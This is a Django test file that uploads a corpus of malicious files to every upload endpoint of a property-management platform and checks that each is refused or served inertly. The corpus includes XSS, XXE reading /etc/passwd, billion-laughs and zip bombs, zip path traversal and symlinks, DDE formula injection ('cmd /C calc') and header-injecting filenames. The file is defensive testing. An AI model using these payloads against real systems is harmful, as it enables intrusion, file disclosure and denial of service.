"""Files made to harm, through every counter that takes files: refused in words, or kept inert."""

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from guijia.platform.files.models import Attachment
from guijia.platform.org.enums import Role
from tests.access.conftest import rolled_back
from tests.access.table import ROUTES, Post
from tests.access.test_matrix import address
from tests.access.world import Side, World
from tests.areas.estate.importing.lists import text, xlsx
from tests.conftest import do_waiting_jobs
from tests.corpus_run import feeding
from tests.platform.files import makers

EVIL = b"<script>alert(1)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"


def zipped(entries: dict[str, bytes], **options: Any) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in entries.items():
            archive.writestr(name, body)
        for name in options.get("links", ()):
            link = zipfile.ZipInfo(name)
            link.external_attr = 0o120777 << 16
            archive.writestr(link, b"/etc/passwd")
    return made.getvalue()


def workbook(sheet: bytes, **more: bytes) -> bytes:
    """A workbook whose one sheet is given as XML."""
    parts = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Override PartName="/xl/workbook.xml" ContentType='
        b'"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        "_rels/.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
        b' Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
        b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        b'<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        b' Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    return zipped({**parts, **{name.replace("__", "/"): body for name, body in more.items()}})


MAIN = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
END = b"</sheetData></worksheet>"


def cell(place: bytes, value: bytes) -> bytes:
    return b'<c r="' + place + b'" t="inlineStr"><is><t>' + value + b"</t></is></c>"


def far(row: bytes, column: bytes) -> bytes:
    """A sheet whose only cell stands far out."""
    return MAIN + b'<row r="' + row + b'">' + cell(column + row, b"x") + b"</row>" + END


def wide_png(side: int) -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (c + 1, b"&%c;" % c * 10) for c in range(ord("a"), ord("j")))
    + b"]><worksheet><sheetData><row><c><v>&j;</v></c></row></sheetData></worksheet>"
)
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    + MAIN
    + cell(b"A1", b"&e;")
    + END
)


def lying(size: int) -> bytes:
    """A workbook whose directory says that its sheet is small."""
    made = workbook(MAIN + cell(b"A1", b"a" * size) + END)
    at = made.rindex(b"xl/worksheets/sheet1.xml") - 46 + 24
    return made[:at] + struct.pack("<I", 1000) + made[at + 4 :]


def wide_jpeg() -> bytes:
    """A picture of four billion points by its head."""
    return makers.jpeg().replace(b"\x08\x00\x10\x00\x10\x01", b"\x08\xff\xdc\xff\xdc\x01")


HEADED = ["楼栋", "房号", "建筑面积", "总价"], ["3栋", "101", "100", "1000000"]
FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("a.xlsx", lambda: b""),
    "zeros": ("a.xlsx", lambda: bytes(5000)),
    "one byte": ("a.csv", lambda: b"\xff"),
    "jpeg with a zip behind": ("a.jpg", lambda: makers.jpeg(tail=makers.office(word__evil=EVIL))),
    "gif that is a script": ("a.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"),
    "svg": ("a.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "svg as png": ("a.png", lambda: b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    "html as text": ("a.csv", lambda: b"<!doctype html><html><body>" + EVIL),
    "html with a bom": ("a.csv", lambda: b"\xef\xbb\xbf  <html>" + EVIL),
    "program": ("a.exe", lambda: b"MZ" + bytes(500)),
    "program as pdf": ("合同.pdf", lambda: b"MZ" + bytes(500) + b"%PDF-1.7 %%EOF"),
    "rar as picture": ("a.jpg", lambda: b"Rar!\x1a\x07\x00" + bytes(100)),
    "eicar": ("a.csv", lambda: EICAR),
    "eicar in a pdf": ("a.pdf", lambda: makers.pdf(EICAR)),
    "pdf with a script": ("a.pdf", lambda: makers.pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    "pdf with a script spelled": ("a.pdf", lambda: makers.pdf(b"/OpenAction<</S/#4aavaScript>>")),
    "pdf with a file inside": ("a.pdf", lambda: makers.pdf(b"/EmbeddedFile")),
    "pdf cut off": ("a.pdf", lambda: makers.pdf()[:20]),
    "jpeg cut off": ("a.jpg", lambda: makers.jpeg()[:30]),
    "png cut off": ("a.png", lambda: makers.png()[:40]),
    "png of a billion points": ("a.png", lambda: wide_png(30_000)),
    "webp": ("a.webp", makers.webp),
    "heic": ("a.heic", makers.heic),
    "office cut off": ("a.docx", lambda: makers.office()[:80]),
    "office with macros": ("a.xlsm", lambda: makers.office(**{"xl__vbaProject.bin": b"x"})),
    "office with a template elsewhere": (
        "a.docx",
        lambda: makers.office(**{"word___rels__settings.xml.rels": b'<Relationships><Relationship TargetMode="External"'
                                 b' Target="http://elsewhere.example/x.dotm"/></Relationships>'}),
    ),
    "way out of the folder": ("a.docx", lambda: zipped({"[Content_Types].xml": b"<Types/>", "../../etc/cron.d/x": b"x"})),
    "link inside": ("a.docx", lambda: zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b""}, links=["word/l"])),
    "thousand entries": ("a.xlsx", lambda: zipped({f"xl/{i}.xml": b"x" for i in range(1000)})),
    "bomb": ("a.xlsx", lambda: workbook(MAIN + cell(b"A1", b"a" * 80_000_000) + END)),
    "laughs": ("a.xlsx", lambda: workbook(LAUGHS)),
    "entity": ("a.xlsx", lambda: workbook(XXE)),
    "cell at the end of the world": ("a.xlsx", lambda: workbook(far(b"1048576", b"XFD"))),
    "cell beyond the end": ("a.xlsx", lambda: workbook(far(b"99999999", b"ZZZZ"))),
    "broken sheet": ("a.xlsx", lambda: workbook(b"<worksheet><sheetData><row>")),
    "formulas": ("a.xlsx", lambda: xlsx({"A": [["楼栋", "房号", "总价"], ["=cmd|'/C calc'!A0", "102", "=1+1"]]})),
    "old excel": ("a.xls", makers.xls),
    "old excel with macros": ("a.xls", lambda: makers.xls("_VBA_PROJECT".encode("utf-16-le"))),
    "old excel cut off": ("a.xls", lambda: makers.xls()[:600]),
    "huge field": ("a.csv", lambda: ("楼栋,房号\n1," + "长" * 1_000_000 + "\n").encode()),
    "hundred thousand columns": ("a.csv", lambda: b"," * 100_000 + b"\n1\n"),
    "quote never closed": ("a.csv", lambda: b'"' + b"a,\n" * 50_000),
    "nul in a list": ("a.csv", lambda: "楼栋,房号\n1,10\x001\n".encode()),
    "utf-16": ("a.csv", lambda: "楼栋,房号\n1,101\n".encode("utf-16")),
    "broken utf-8": ("a.csv", lambda: b"\xed\xa0\x80,\xff\xfe\n\x81,\x30\n"),
    "traversing name": ("../../../../tmp/evil.csv", lambda: text([["楼栋", "房号"], ["1", "101"]])),
    "nul in the name": ("a\0.pdf", makers.pdf),
    "double name": ("合同.pdf.exe", makers.pdf),
    "name of a device": ("con.txt", makers.pdf),
    "name turned round": ("合同\u202efdp.exe", makers.pdf),
    "long name": ("长" * 85 + ".pdf", makers.pdf),
    "very long name": ("长" * 900 + ".pdf", makers.pdf),
    "name with lines": ('a"\r\nSet-Cookie: x=1;.pdf', makers.pdf),
    "name with markup": ("<img src=x onerror=alert(1)>.pdf", makers.pdf),
    "external links": ("a.xlsx", lambda: workbook(MAIN + END, **{"xl/externalLinks/externalLink1.xml": b"<x/>"})),
    "embedded object": ("a.xlsx", lambda: workbook(MAIN + END, **{"xl/embeddings/oleObject1.bin": b"x"})),
    "macros in a workbook": ("a.xlsx", lambda: workbook(MAIN + END, **{"xl/vbaProject.bin": b"x"})),
    "macro sheet": ("a.xlsm", lambda: workbook(MAIN + END, **{"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "locked by a password": ("a.xlsx", lambda: makers.xls("EncryptedPackage".encode("utf-16-le"))),
    "million rows declared": (
        "a.xlsx",
        lambda: workbook(MAIN.replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
                         + b'<row r="1">' + cell(b"A1", b"x") + b"</row>" + END),
    ),
    "size that lies": ("a.xlsx", lambda: lying(60_000_000)),
    "strings of a bomb": (
        "a.xlsx", lambda: workbook(MAIN + END, **{"xl/sharedStrings.xml": b"<sst><si><t>" + b"a" * 80_000_000}),
    ),
    "nested for ever": ("a.xlsx", lambda: workbook(MAIN + b"<row>" * 200_000)),
    "bomb in many parts": ("a.xlsx", lambda: workbook(MAIN + END, **{f"xl/{i}.xml": bytes(4_000_000) for i in range(60)})),
    "zip in a zip": ("a.zip", lambda: zipped({"a.zip": zipped({"b.zip": bytes(1000)})})),
    "document as a workbook": ("a.xlsx", makers.office),
    "picture as a workbook": ("a.xlsx", makers.png),
    "workbook as a picture": ("a.jpg", lambda: xlsx({"A": HEADED})),
    "pdf with a zip behind": ("a.pdf", lambda: makers.pdf() + zipped({"x": b"x"})),
    "jpeg of four billion points": ("a.jpg", wide_jpeg),
    "gbk": ("a.csv", lambda: text(HEADED, "gb18030")),
    "utf-16 without a mark": ("a.csv", lambda: text(HEADED, "utf-16-le")),
    "utf-16 the other way": ("a.csv", lambda: b"\xfe\xff" + text(HEADED, "utf-16-be")),
    "big5": ("a.csv", lambda: "樓棟,房號\n1,101\n".encode("big5")),
    "nul between": ("a.csv", lambda: text(HEADED).replace(b",", b"\0,")),
    "formulas in a list": ("a.csv", lambda: text([HEADED[0], ["=cmd|'/C calc'!A0", "@SUM(1)", "+1", "-1"]])),
    "numbers beyond sense": ("a.csv", lambda: text([HEADED[0], ["3栋", "1" * 3000, "1e400", "NaN"]])),
    "million lines": ("a.csv", lambda: b"\n" * 1_000_000),
    "page as a workbook": ("a.xls", lambda: b"<html><table><tr><td>1</td></tr></table></html>"),
    "good list": ("a.csv", lambda: text(HEADED)),
    "good workbook": ("a.xlsx", lambda: xlsx({"A": HEADED})),
    "good pdf": ("a.pdf", makers.pdf),
    "good document": ("a.docx", makers.office),
}  # fmt: skip
COUNTERS: dict[str, tuple[Role, str]] = {
    "files:upload": (Role.MANAGER, "file"),
    "estate:permits": (Role.MANAGER, "scan"),
    "estate:import_upload": (Role.MANAGER, "file"),
    "deals:import_bureau": (Role.CONTRACT, "file"),
    "papers:template": (Role.MANAGER, "file"),
    "settings:preview_calendar": (Role.ADMIN, "file"),
    "estate:area_import": (Role.MANAGER, "file"),
    "estate:new_plan": (Role.MANAGER, "picture"),
    "estate:deliver": (Role.MANAGER, "fund_file"),
    "ledger:import_statement": (Role.CASHIER, "file"),
    "mortgage:import_overdue": (Role.MORTGAGE, "file"),
}
# Reading a list that was taken in is the worker's; it has its own limits of time and memory.
READ_LATER = 25.0


def counter(name: str, side: Side) -> tuple[str, dict[str, Any], str, Role]:
    role, field = COUNTERS[name]
    row = next(row for row in ROUTES[name] if isinstance(row, Post))
    body = {key: value for key, value in row.body(side).items() if not isinstance(value, SimpleUploadedFile)}
    return address(name, row, side), body, field, role


def test_every_counter_that_takes_files_stands_here(world: World) -> None:
    takes = {
        name
        for name, found in ROUTES.items()
        for row in found
        if isinstance(row, Post)
        and any(isinstance(v, SimpleUploadedFile) for v in row.body(world.ours).values())
    }
    assert takes <= set(COUNTERS), f"counters without the corpus of files: {takes - set(COUNTERS)}"


@pytest.fixture(scope="module")
def contents() -> dict[str, bytes]:
    """Every file, made once."""
    return {name: make() for name, (_, make) in FILES.items()}


@pytest.mark.parametrize("name", COUNTERS)
def test_one_file_in_four_is_refused_or_kept_inert(
    name: str, world: World, contents: dict[str, bytes]
) -> None:
    """Another quarter at every counter, so that every file is handed in somewhere."""
    for key in list(FILES)[list(COUNTERS).index(name) % 4 :: 4]:
        hand_in(name, key, contents[key], world)


@pytest.mark.exhaustive
@pytest.mark.parametrize("name", COUNTERS)
def test_file_is_refused_or_kept_inert(name: str, world: World, contents: dict[str, bytes]) -> None:
    for key in FILES:
        hand_in(name, key, contents[key], world)


def hand_in(name: str, key: str, content: bytes, world: World) -> None:
    url, body, field, role = counter(name, world.ours)
    client = world.client(world.ours.person(role))
    file_name = FILES[key][0]

    def send() -> Any:
        file = SimpleUploadedFile("x", content, "text/html")
        file._name = file_name  # as it came over the wire: nobody cleaned it
        return client.post(url, {**body, field: file})

    answer = feeding.fed(send, f"{name} {key}")
    said = answer.content.decode("utf-8", "replace")
    assert "<img src=x" not in said
    assert "root:" not in said
    assert "Set-Cookie" not in answer.headers.get("Location", "")
    if answer.status_code != 302:
        return
    with rolled_back():
        taken = send()
        started = time.perf_counter()
        do_waiting_jobs()
        assert time.perf_counter() - started < READ_LATER, (name, key)
        page = client.get(taken.headers["Location"])
        assert page.status_code in {200, 302}
        assert "root:" not in page.content.decode()
        for attachment in (
            Attachment.objects.order_by("-uploaded_at")[:1] if name != "estate:import_upload" else ()
        ):
            kept_inert(client.get(reverse("files:download", args=[attachment.pk])), key)


def kept_inert(answer: Any, key: str) -> None:
    assert answer.status_code == 200
    heads = answer.headers
    assert heads["Content-Disposition"].startswith("attachment"), key
    assert heads["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in heads["Content-Security-Policy"]
    assert heads["Content-Type"].split(";")[0] not in {
        "text/html",
        "image/svg+xml",
        "application/javascript",
        "text/xml",
    }
    for trick in ("\r", "\n", "\0", "/", "\\"):
        assert trick not in heads["Content-Disposition"].replace("filename*=utf-8''", ""), key


def many_rows() -> Iterator[bytes]:
    yield MAIN
    for row in range(1, 400_001):
        yield b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (row, row)
    yield END


@pytest.mark.exhaustive
@pytest.mark.parametrize("name", ["estate:import_upload", "deals:import_bureau"])
def test_list_of_too_many_rows_is_refused_in_time(name: str, world: World) -> None:
    FILES["rows"] = ("a.xlsx", lambda: b"")
    try:
        hand_in(name, "rows", workbook(b"".join(many_rows())), world)
    finally:
        FILES.pop("rows")


@pytest.mark.parametrize("name", COUNTERS)
def test_body_beyond_the_limit_is_turned_away(name: str, world: World) -> None:
    url, body, field, role = counter(name, world.ours)
    client = world.client(world.ours.person(role))
    big = SimpleUploadedFile("a.pdf", bytes(13 * 1024 * 1024))
    assert client.post(url, {**body, field: big}).status_code == 413
    many = {f"f{i}": "1" for i in range(10_000)}
    assert feeding.post(client, url, {**many, **body}).status_code in {400, 413}
    files = {f"file{i}": SimpleUploadedFile(f"{i}.txt", b"x") for i in range(200)}
    assert client.post(url, {**body, **files}).status_code in {400, 413, 422}


def test_form_that_breaks_off_is_a_bad_request(world: World) -> None:
    client = world.client(world.ours.cast.manager)
    url = reverse("files:upload")
    head = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF'
    for content in (head, b"--x", b"", b"--y--\r\n", head + b"\r\n--x--"):
        answer = client.post(url, content, content_type="multipart/form-data; boundary=x")
        assert answer.status_code in {400, 404, 422}
    for kind in (
        "multipart/form-data",
        "multipart/form-data; boundary=" + "é" * 200,
        "application/json",
        "text/xml",
        "x",
    ):
        assert client.post(url, b"{}", content_type=kind).status_code in {400, 404, 422}
